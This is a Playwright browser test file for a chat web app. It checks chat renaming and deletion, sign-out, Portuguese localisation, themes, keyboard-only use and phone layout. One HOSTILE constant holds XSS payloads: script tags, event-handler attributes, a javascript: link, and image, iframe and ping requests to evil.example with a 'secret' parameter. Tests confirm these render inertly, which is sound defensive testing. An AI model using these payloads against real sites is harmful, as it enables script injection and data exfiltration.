"""The page around the answers: the list, signing in and out, language, appearance, keys, small screens, safety."""

import json
from collections.abc import AsyncIterator
from pathlib import Path

import pytest
from playwright.async_api import Page, expect

from tests.browser.conftest import Visit
from tests.browser.visitor import Visitor, text_of
from tests.fake_model_server import FakeModelServer, fake_model_server, says
from tests.system.harness import Served

HOSTILE = (
    "<img src=x onerror=\"window.hurt='img'\"> <script>window.hurt='script'</script> "
    "<svg onload=\"window.hurt='svg'\"></svg> [press](javascript:window.hurt='link') "
    "![out](https://evil.example/?secret) <iframe src='https://evil.example/'></iframe> "
    "<style>body{display:none}</style> <a href='https://evil.example/' ping='https://evil.example/'>x</a>"
)


async def test_a_chat_is_renamed_and_deleted_everywhere(ana: Visitor) -> None:
    tab = await ana.signed_up()
    await tab.answered(await tab.ask("to be named [[n=2 r=50]]"), "to be named [[n=2 r=50]]")
    other = await ana.tab(f"/c/{tab.chat}")
    await expect(other.replies).to_have_count(1)
    await tab.at("chat-rename").click()
    await tab.at("chat-name").fill("Contos do mar")
    await tab.page.keyboard.press("Enter")
    await expect(tab.at("chat-rename")).to_be_focused()
    for each in (tab, other):
        await expect(each.at("chat-link")).to_have_text("Contos do mar")
        await expect(each.at("chat-title")).to_have_text("Contos do mar")
    await tab.at("chat-delete").click()
    await tab.page.keyboard.press("Escape")
    await expect(tab.at("chat-delete")).to_be_focused()
    await expect(tab.at("chat-item")).to_have_count(1)
    await tab.at("chat-delete").click()
    await tab.at("confirm-delete").click()
    for each in (tab, other):
        await expect(each.at("chat-item")).to_have_count(0)
        await expect(each.at("greeting")).to_be_visible()
        await expect(each.page).to_have_url(f"{ana.base}/")


async def test_back_and_forward_walk_through_the_chats(ana: Visitor) -> None:
    tab = await ana.signed_up()
    await tab.ask("first chat [[n=2 r=50]]")
    first = tab.page.url
    await tab.at("new-chat").click()
    await expect(tab.at("composer")).to_be_focused()
    await tab.ask("second chat [[n=2 r=50]]")
    await expect(tab.at("chat-item")).to_have_count(2)
    await tab.page.go_back()
    await expect(tab.at("greeting")).to_be_visible()
    await tab.page.go_back()
    await expect(tab.page).to_have_url(first)
    await expect(text_of(tab.questions)).to_have_text("first chat [[n=2 r=50]]")


async def test_signing_out_ends_the_other_tab_and_leaves_nothing_behind(ana: Visitor) -> None:
    ana.expects("status of 401")
    tab = await ana.signed_up()
    await tab.answered(await tab.ask("private [[n=2 r=50]]"), "private [[n=2 r=50]]")
    other = await ana.tab(f"/c/{tab.chat}")
    await other.at("composer").fill("a draft")
    await tab.at("settings").click()
    await tab.at("sign-out").click()
    for each in (tab, other):
        await expect(each.at("auth-form")).to_have_attribute("data-mode", "sign-in")
        await expect(each.page.get_by_text("private")).to_have_count(0)
    kept = await tab.page.evaluate("() => JSON.stringify(localStorage)")
    assert "private" not in kept
    assert "a draft" not in kept
    await tab.sign("sign-in", ana.name)
    await expect(tab.at("chat-link")).to_have_text("private [[n=2 r=50]]")


async def test_a_wrong_password_and_a_taken_name_are_told_in_the_persons_language(visit: Visit) -> None:
    ana = await visit(locale="pt-BR")
    ana.expects("status of 4")
    tab = await ana.signed_up()
    await expect(tab.at("greeting")).to_contain_text(f"Olá, {ana.name}.")
    await tab.at("settings").click()
    await tab.at("sign-out").click()
    await tab.at("username").fill(ana.name)
    await tab.at("password").fill("not the password")
    await tab.at("auth-submit").click()
    await expect(tab.at("auth-error")).to_have_text("O nome de usuário ou a senha estão errados.")
    await tab.at("auth-switch").click()
    await tab.at("username").fill(ana.name)
    await tab.at("password").fill("correct horse")
    await tab.at("auth-submit").click()
    await expect(tab.at("auth-error")).to_have_attribute("data-code", "username_taken")


async def test_an_unfilled_form_is_told_in_the_pages_language_and_the_word_goes_when_it_is_filled(visit: Visit) -> None:
    ana = await visit(locale="pt-BR")
    tab = await ana.tab()
    form, problem = tab.at("auth-form"), tab.at("auth-error")
    await form.wait_for()
    if await form.get_attribute("data-mode") != "sign-up":
        await tab.at("auth-switch").click()
    await tab.at("auth-submit").click()
    await expect(problem).to_have_text("Escreva um nome de usuário.")
    await expect(tab.at("username")).to_be_focused()
    await tab.at("username").fill(ana.name)
    await expect(problem).to_be_hidden()
    await tab.at("auth-submit").click()
    await expect(problem).to_have_text("Escreva uma senha.")
    await tab.at("password").fill("short")
    await expect(problem).to_be_hidden()
    await tab.at("auth-submit").click()
    await expect(problem).to_have_text("Uma senha tem pelo menos 8 caracteres.")
    await expect(tab.at("password")).to_be_focused()


async def test_language_and_appearance_change_at_once_and_outlive_a_reload(visit: Visit) -> None:
    ana = await visit(appearance="light")
    tab = await ana.signed_up()
    light = await _background(tab.page)
    await tab.at("settings").click()
    await tab.at("language").select_option("pt")
    await tab.at("theme").select_option("dark")
    await tab.page.keyboard.press("Escape")
    dark = await _background(tab.page)
    assert light != dark
    for _ in range(2):
        await expect(tab.at("composer")).to_have_attribute("placeholder", "Escreva uma mensagem…")
        await expect(tab.page.locator("html")).to_have_attribute("lang", "pt-BR")
        assert await _background(tab.page) == dark
        await tab.page.reload()
    await tab.at("settings").click()
    await tab.at("theme").select_option("system")
    assert await _background(tab.page) == light


async def test_everything_is_done_with_the_keyboard_alone(ana: Visitor) -> None:
    tab = await ana.tab()
    keyboard = tab.page.keyboard
    await expect(tab.at("username")).to_be_focused()
    if await tab.at("auth-form").get_attribute("data-mode") == "sign-in":
        await _tab_to(tab.page, "auth-switch")
        await keyboard.press("Enter")
        await expect(tab.at("username")).to_be_focused()
    await keyboard.type(ana.name)
    await keyboard.press("Tab")
    await keyboard.type("correct horse")
    await keyboard.press("Enter")
    await expect(tab.at("composer")).to_be_focused()
    await keyboard.type("two lines")
    await keyboard.press("Shift+Enter")
    await keyboard.type("[[n=300 r=40]]")
    await keyboard.press("Enter")
    await tab.speaks(tab.replies, 3)
    await expect(text_of(tab.questions)).to_have_text("two lines\n[[n=300 r=40]]")
    await keyboard.press("Escape")
    await expect(tab.replies).to_have_attribute("data-state", "stopped")
    await _tab_to(tab.page, "regenerate")
    await keyboard.press("Enter")
    await expect(tab.at("versions")).to_have_text("2/2")
    await _tab_to(tab.page, "settings")
    await keyboard.press("Enter")
    await expect(tab.at("language")).to_be_visible()
    await keyboard.press("Escape")
    await expect(tab.at("language")).to_be_hidden()
    # Escape closed the dialog and nothing else; the focus is where it came from.
    await expect(tab.replies).to_have_attribute("data-state", "running")
    await expect(tab.at("settings")).to_be_focused()
    await keyboard.press("Escape")
    await expect(tab.replies).to_have_attribute("data-state", "stopped")


@pytest.mark.parametrize("width", [320, 390])
async def test_on_a_phone_nothing_scrolls_sideways_and_the_list_is_a_drawer(visit: Visit, width: int) -> None:
    ana = await visit(size=(width, 640), phone=True)
    tab = await ana.signed_up()
    await _fits(tab.page)
    question = f"{'palavra' * 30} [[n=30 r=100]]"
    await tab.answered(await tab.ask(question), question)
    await _fits(tab.page)
    await expect(tab.at("chat-list")).to_be_hidden()
    await tab.at("open-list").click()
    await expect(tab.at("chat-link")).to_be_visible()
    await _fits(tab.page)
    await tab.at("new-chat").click()
    await expect(tab.at("chat-list")).to_be_hidden()
    await expect(tab.at("greeting")).to_be_visible()
    await _fits(tab.page)


async def test_what_a_person_wrote_is_shown_as_written_and_does_nothing(ana: Visitor) -> None:
    tab = await ana.signed_up()
    question = f"{HOSTILE} [[n=2 r=50]]"
    await tab.answered(await tab.ask(question), question)
    assert await text_of(tab.questions).text_content() == question
    await _unhurt(tab.page)


@pytest.fixture
async def model() -> AsyncIterator[FakeModelServer]:
    async with fake_model_server() as fake:
        yield fake


@pytest.fixture
async def hostile(tmp_path: Path, model: FakeModelServer) -> AsyncIterator[Served]:
    """A Prosa whose model says what the test lets it say."""
    entry = {"name": "odd", "engine": "openai", "base_url": model.base_url}
    lines = [f"{key} = {json.dumps(value)}" for key, value in entry.items()]
    (tmp_path / "prosa.toml").write_text("\n".join(["[[models]]", *lines]))
    settings = {"PROSA_CONFIG": str(tmp_path / "prosa.toml"), "PROSA_SCRIPTED": "false", "PROSA_DEFAULT_MODEL": "odd"}
    served = Served(tmp_path / "data", settings)
    await served.start()
    yield served
    served.kill()


async def test_a_hostile_answer_does_nothing_while_it_comes_and_when_it_is_whole(
    visit: Visit, hostile: Served, model: FakeModelServer
) -> None:
    model.next(says([HOSTILE[at : at + 7] for at in range(0, len(HOSTILE), 7)], per_second=100))
    ana = await visit(hostile.base)
    tab = await ana.signed_up()
    reply = await tab.ask("What do you say?")
    await expect(reply).to_have_attribute("data-state", "done")
    await expect(text_of(reply)).to_contain_text("<script>window.hurt='script'</script>")
    assert await text_of(reply).locator("img, script, iframe, svg, style, a[href^=javascript]").count() == 0
    await _unhurt(tab.page)
    await tab.page.reload()
    await expect(text_of(reply)).to_contain_text("<script>")
    await _unhurt(tab.page)


async def test_a_wide_answer_scrolls_inside_itself_on_a_phone(
    visit: Visit, hostile: Served, model: FakeModelServer
) -> None:
    columns = " | ".join(f"column-number-{n}" for n in range(8))
    table = f"| {columns} |\n|{'---|' * 8}\n| {columns} |"
    model.next(
        says(["# Title\n\n", f"{table}\n\n", f"```python\nprint({'word ' * 40})\n```\n\n", "> quoted\n\n- one\n- two"])
    )
    ana = await visit(hostile.base, size=(390, 640), phone=True)
    tab = await ana.signed_up()
    reply = await tab.ask("Show me.")
    await expect(reply).to_have_attribute("data-state", "done")
    for part in ("h1", "table", "pre code", "blockquote", "ul li"):
        await expect(text_of(reply).locator(part).first).to_be_visible()
    assert await text_of(reply).locator("pre").evaluate("box => box.scrollWidth > box.clientWidth")
    await _fits(tab.page)


async def _unhurt(page: Page) -> None:
    assert await page.evaluate("() => window.hurt ?? null") is None
    assert await page.evaluate("() => getComputedStyle(document.body).display") != "none"


async def _background(page: Page) -> str:
    colour: str = await page.evaluate("() => getComputedStyle(document.body).backgroundColor")
    return colour


async def _fits(page: Page) -> None:
    """Nothing reaches beyond the right edge, and the page as a whole does not scroll."""
    wide = await page.evaluate("() => document.documentElement.scrollWidth - document.documentElement.clientWidth")
    inner = await page.evaluate(
        "() => [...document.querySelectorAll('[data-testid=scroller]')].map(box => box.scrollWidth - box.clientWidth)"
    )
    assert wide == 0
    assert all(each == 0 for each in inner)


async def _tab_to(page: Page, test_id: str) -> None:
    """Press Tab until this has the focus, as somebody without a mouse does."""
    for _ in range(40):
        if await page.evaluate("() => document.activeElement?.dataset.testid ?? ''") == test_id:
            return
        await page.keyboard.press("Tab")
    raise AssertionError(f"Tab does not reach {test_id}")
